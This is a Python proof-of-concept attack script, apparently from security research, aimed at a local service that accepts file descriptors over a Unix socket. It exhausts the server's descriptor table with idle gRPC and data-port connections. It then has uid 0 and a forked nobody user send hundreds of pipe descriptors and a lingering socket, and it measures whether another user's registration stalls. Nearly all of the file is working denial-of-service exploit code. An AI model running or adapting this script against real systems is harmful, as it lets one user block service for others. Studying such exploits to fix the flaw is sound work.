# prlimit 1024: fill the table with idle gRPC (384) + data-port (128) connections (no token needed), then
# user 0 parks a lingering close and sends 253 cheap fds (its closing share overshoot, 254 held), then a
# second local user (65534) sends 252 pipes + 1 lingering socket last: the server cannot install them all,
# the kernel closes the rest (the lingering socket) on the registration listener's thread.
import sys, time, os, socket
from shm import *
name = sys.argv[1]; L = int(sys.argv[2]); path = f"/tmp/atk2/{name}/shm.sock"; p = pid(name); P = ports(name)
hold = []
for i in range(384):
    s = socket.socket(); s.connect(("127.0.0.1", P["grpc_port"])); s.sendall(PREFACE + SETTINGS); hold.append(s)
for i in range(128):
    s = socket.socket(); s.connect(("127.0.0.1", P["data_port"])); hold.append(s)
time.sleep(1); print("after tcp fill fds", nfd(p))
c, n = linger_socket(L); s = conn(path); send_fds(s, rec(4096), [c.fileno()]); c.close(); print("uid0 linger:", reply(s)[0]); s.close()
rp, wp = os.pipe(); s = conn(path); send_fds(s, rec(4096), [rp] * 253); print("uid0 253:", reply(s)[0]); hold.append(s)
time.sleep(0.3); print("fds", nfd(p))
def child_attack():
    ch = os.fork()
    if ch == 0:
        os.setresgid(65534, 65534, 65534); os.setresuid(65534, 65534, 65534)
        import shm; shm._keep.clear()
        rp2, wp2 = os.pipe(); c2, _ = linger_socket(L)
        s2 = conn(path); send_fds(s2, rec(4096), [rp2] * 252 + [c2.fileno()]); c2.close()
        time.sleep(L + 30); os._exit(0)
    return ch
def other_user_register(uid=65533):
    r, w = os.pipe(); ch = os.fork()
    if ch == 0:
        os.close(r); os.setresgid(uid, uid, uid); os.setresuid(uid, uid, uid)
        res, dt, s = register(path, timeout=4); os.write(w, repr((res[0], res[1][:60], dt)).encode()); os._exit(0)
    os.close(w); out = os.read(r, 1000).decode(); os.waitpid(ch, 0); os.close(r); return out
print("before: uid65533 reg", other_user_register())
ch = child_attack(); t = time.time(); time.sleep(1)
print("fds", nfd(p))
for k in range(4):
    print(" +%.0fs uid65533 reg %s | fds %d" % (time.time() - t, other_user_register(), nfd(p))); time.sleep(3)
for s in hold[:512]: s.close()
time.sleep(3)
print(" closed TCP fill: +%.0fs uid65533 reg %s | fds %d | health %s" % (time.time() - t, other_user_register(), nfd(p), health(P["health_port"])[:2]))
while time.time() - t < L + 5:
    time.sleep(5); print(" +%.0fs uid65533 reg %s | fds %d" % (time.time() - t, other_user_register(), nfd(p)))
os.kill(ch, 9); os.waitpid(ch, 0)
